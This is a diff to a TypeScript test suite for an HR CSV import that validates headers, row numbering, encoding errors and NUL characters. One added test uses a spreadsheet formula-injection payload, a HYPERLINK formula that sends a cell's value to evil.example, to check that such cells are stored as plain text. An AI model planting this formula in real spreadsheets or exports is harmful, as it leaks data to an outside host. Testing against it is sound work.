@@ -61,7 +61,7 @@ describe('HRIS import', () => {
     const rows = [...org, person('E302', 'Fay', 'E200', { work_email: 'fay-at-example' }), person('E303', 'Gus', 'E200', { start_date: '2020-02-30', employment_status: 'RETIRED' })];
     const report = await importCsv(fixture, csvOf(rows), 'APPLY_VALID_ROWS', tenant);
     expect(report).toMatchObject({ applied: true, rowsRead: 6, created: 4, rejected: 2, errorCount: 3 });
-    // Row 1 is the header: Fay is on row 6, Gus on row 7.
+    // Line 1 is the header: Fay is on line 6, Gus on line 7.
     expect(report.errors).toEqual([
       { row: 6, field: 'work_email', message: 'must be an email address' },
       { row: 7, field: 'employment_status', message: 'must be ACTIVE, ON_LEAVE or LEFT' },
@@ -135,7 +135,7 @@ describe('HRIS import', () => {
     expect(report.errors).toEqual([
       { row: 6, field: 'parent_site_code', message: 'would put site A below itself (each under the next): A → B → A' },
       { row: 7, field: 'parent_site_code', message: 'would put site B below itself (each under the next): B → A → B' },
-      { row: 8, field: 'site_name', message: 'site S1 is named "School One" on row 3' },
+      { row: 8, field: 'site_name', message: 'site S1 is named "School One" on line 3' },
       { row: 9, field: 'parent_site_code', message: 'no site with code NOPE in this file or the directory' },
     ]);
   });
@@ -154,7 +154,7 @@ describe('HRIS import', () => {
     const report = await importCsv(fixture, csvOf(rows), 'APPLY_VALID_ROWS', tenant);
     expect(report.errors).toEqual([
       { row: 5, field: 'supervisor_staff_number', message: 'supervisor E200 has left and cannot supervise anyone' },
-      { row: 6, field: 'staff_number', message: 'staff number E100 already appears on row 2' },
+      { row: 6, field: 'staff_number', message: 'staff number E100 already appears on line 2' },
     ]);
     expect(report).toMatchObject({ changed: 2, unchanged: 1, rejected: 2 });
     const people = await sql(fixture, tenant.tenantId, `SELECT staff_number, employment_status, supervisor_id IS NOT NULL AS supervised FROM directory_people WHERE tenant_id = $1 ORDER BY 1`);
@@ -173,8 +173,88 @@ describe('HRIS import', () => {
     expect(headerless.errors[0]).toEqual({ row: 1, field: 'last_name', message: 'required column is missing from the header' });
     const broken = await importCsv(fixture, `${csvOf(org)}E9,"unclosed,quote\n`, 'APPLY_VALID_ROWS', tenant);
     expect(broken).toMatchObject({ applied: false, created: 0 });
-    expect(broken.errors[0]).toMatchObject({ row: 6, field: null, message: expect.stringContaining('unreadable CSV') });
+    expect(broken.errors[0]).toEqual({ row: 6, field: null, message: 'unreadable CSV: Quote Not Closed: the parsing is finished with an opening quote at line 6' });
     expect(await count(fixture, 'es_events', tenant.tenantId)).toBe(0);
+  });
+
+  it('refuses a header with a repeated or unknown column, naming it, and writes nothing', async () => {
+    const tenant = newTenant();
+    const [header, ...rows] = csvOf(org).split('\n');
+    // Matched case-insensitively: Site_Code repeats site_code (which of the two would count?).
+    const repeated = await importCsv(fixture, [`${header},Site_Code`, ...rows.map((r) => (r ? `${r},S9` : r))].join('\n'), 'APPLY_VALID_ROWS', tenant);
+    expect(repeated).toMatchObject({ applied: false, rowsRead: 0, created: 0 });
+    expect(repeated.errors).toEqual([{ row: 1, field: 'site_code', message: 'column site_code appears more than once in the header (columns 6 and 12)' }]);
+    // A typo would otherwise drop the column silently.
+    const unknown = await importCsv(fixture, [header.replace('supervisor_staff_number', 'supervisor_staff_no'), ...rows].join('\n'), 'APPLY_VALID_ROWS', tenant);
+    expect(unknown).toMatchObject({ applied: false, rowsRead: 0, created: 0 });
+    expect(unknown.errors).toEqual([{ row: 1, field: 'supervisor_staff_no', message: expect.stringMatching(/^unknown column "supervisor_staff_no" \(column 9\); the columns are staff_number, /) }]);
+    expect(await count(fixture, 'es_events', tenant.tenantId)).toBe(0);
+  });
+
+  it('numbers rows by the line of the file they start on: blank lines and values spanning lines count, CRLF or LF', async () => {
+    const tenant = newTenant();
+    const header = csvOf([]).trimEnd();
+    const lineOf = (row: CsvRow) => csvOf([row]).slice(header.length + 1, -1);
+    const [cal, bea, ana] = [org[0], { ...org[1], job_classification: 'Plant Manager\r\n(acting)' }, { ...org[2], work_email: 'ana-at-example' }].map(lineOf);
+    const lines = [
+      header, // 1
+      cal, // 2
+      '', // 3: blank, skipped
+      bea, // 4 and 5: a quoted value with a line break
+      ana, // 6: bad email
+      '', // 7
+      '', // 8
+      'E100,Dup,Dupson,,Custodian,S1,School One,D1,,ACTIVE,2020-08-17', // 9: a repeated staff number
+    ];
+    const report = await importCsv(fixture, `${lines.join('\r\n')}\r\n`, 'APPLY_VALID_ROWS', tenant);
+    expect(report).toMatchObject({ applied: true, rowsRead: 4, created: 2, rejected: 2 });
+    expect(report.errors).toEqual([
+      { row: 6, field: 'work_email', message: 'must be an email address' },
+      { row: 9, field: 'staff_number', message: 'staff number E100 already appears on line 2' },
+    ]);
+    expect(await sql(fixture, tenant.tenantId, `SELECT job_classification FROM directory_people WHERE tenant_id = $1 AND staff_number = 'E200'`)).toEqual([
+      { job_classification: 'Plant Manager\r\n(acting)' },
+    ]);
+    // An unreadable record is numbered the same way, in the parser's message too (the parser's own count, which takes
+    // the CRLF inside a quoted value for two lines, would be off).
+    const broken = await importCsv(fixture, `${lines.slice(0, 5).join('\r\n')}\r\n\r\nE9,"unclosed,quote\r\n`, 'APPLY_VALID_ROWS', newTenant());
+    expect(broken.errors).toEqual([{ row: 8, field: null, message: 'unreadable CSV: Quote Not Closed: the parsing is finished with an opening quote at line 8' }]);
+  });
+
+  it('stores cells a spreadsheet would run as formulas (= + - @) verbatim, as text', async () => {
+    const tenant = newTenant();
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
+    const rows = [org[0], person('F1', formula, 'E100', { last_name: '@SUM(1+1)', job_classification: '+Custodian', site_code: 'S9', site_name: '-Annex' })];
+    expect(await importCsv(fixture, csvOf(rows), 'REJECT_ALL_ON_ERROR', tenant)).toMatchObject({ applied: true, created: 2, rejected: 0 });
+    expect(await sql(fixture, tenant.tenantId, `SELECT first_name, last_name, job_classification FROM directory_people WHERE tenant_id = $1 AND staff_number = 'F1'`)).toEqual([
+      { first_name: formula, last_name: '@SUM(1+1)', job_classification: '+Custodian' },
+    ]);
+    expect(await sql(fixture, tenant.tenantId, `SELECT name FROM directory_sites WHERE tenant_id = $1 AND code = 'S9'`)).toEqual([{ name: '-Annex' }]);
+    // And read back through the API as the same text.
+    const read = await fixture.query<{ people: { items: Array<{ firstName: string }> } }>(`{ people(first: 10) { items { firstName } } }`, {}, tenant);
+    expect(read.data?.people.items.map((p) => p.firstName)).toContain(formula);
+  });
+
+  it('refuses text PostgreSQL cannot store (a NUL, an unpaired surrogate) as a row error naming the field', async () => {
+    const tenant = newTenant();
+    const rows = [
+      org[0],
+      person('E200', 'Bea', 'E100', { first_name: 'Bea\u0000' }),
+      person('E300', 'Ana', 'E100', { last_name: 'Re\uD800yes' }),
+      person('E4\u00000', 'Eli', 'E100', { job_classification: 'Cook \uDC00' }),
+      person('E500', 'Fay', 'E100'),
+    ];
+    const report = await importCsv(fixture, csvOf(rows), 'APPLY_VALID_ROWS', tenant);
+    expect(report).toMatchObject({ applied: true, rowsRead: 5, created: 2, rejected: 3 });
+    // A surrogate reaches the parser as U+FFFD (it reads bytes): refused as text that was not valid Unicode.
+    const notUnicode = expect.stringMatching(/^contains U\+FFFD, which stands for text that was not valid Unicode: an unpaired UTF-16 surrogate, or bytes/);
+    expect(report.errors).toEqual([
+      { row: 3, field: 'first_name', message: 'contains a NUL character (U+0000), which cannot be stored' },
+      { row: 4, field: 'last_name', message: notUnicode },
+      { row: 5, field: 'job_classification', message: notUnicode },
+      { row: 5, field: 'staff_number', message: 'contains a NUL character (U+0000), which cannot be stored' },
+    ]);
+    expect(await sql(fixture, tenant.tenantId, `SELECT staff_number FROM directory_people WHERE tenant_id = $1 ORDER BY 1`)).toEqual([{ staff_number: 'E100' }, { staff_number: 'E500' }]);
   });
 
   it('accepts quoted fields, a byte-order mark and CRLF line ends', async () => {
@@ -219,6 +299,22 @@ describe('HRIS import CLI', () => {
     expect(stats).toMatchObject({ seconds: expect.any(Number), peakRssMb: expect.any(Number), peakHeapMb: expect.any(Number) });
     const [actor] = await sql<{ actor_id: string }>(fixture, 'cli', `SELECT DISTINCT actor_id FROM es_events WHERE tenant_id = $1`);
     expect(actor).toEqual({ actor_id: 'hr-7' });
+  });
+
+  it('refuses a NUL byte, or bytes that are not UTF-8 (a Latin-1 file), as a row error naming the field', async () => {
+    const file = path.join(mkdtempSync(path.join(tmpdir(), 'directory-import-')), 'people.csv');
+    const [header, cal, bea, ana] = csvOf([person('E100', 'Cal', '', atDistrict), person('E200', 'Bea', 'E100', { last_name: 'Nu\u0000ll' }), person('E300', 'Jose', 'E100')]).split('\n');
+    // José in Latin-1: é is the single byte 0xE9.
+    writeFileSync(file, Buffer.concat([Buffer.from(`${header}\n${cal}\n${bea}\n`), Buffer.from(ana.replace('Jose', 'Jos\u00e9'), 'latin1'), Buffer.from('\n')]));
+    let printed = '';
+    const databaseUrl = (fixture.service.infrastructure.dataSource.options as { url: string }).url;
+    expect(await runImportCli(['--tenant', 'cli-bytes', '--file', file, '--mode', 'APPLY_VALID_ROWS'], { DATABASE_URL: databaseUrl }, (t) => void (printed += t))).toBe(2);
+    const { report } = JSON.parse(printed) as CliOutput;
+    expect(report).toMatchObject({ applied: true, rowsRead: 3, created: 1, rejected: 2 });
+    expect(report.errors).toEqual([
+      { row: 3, field: 'last_name', message: 'contains a NUL character (U+0000), which cannot be stored' },
+      { row: 4, field: 'first_name', message: expect.stringContaining('bytes that are not UTF-8 (save the file as UTF-8)') },
+    ]);
   });
 
   it('explains its usage when arguments are missing', async () => {
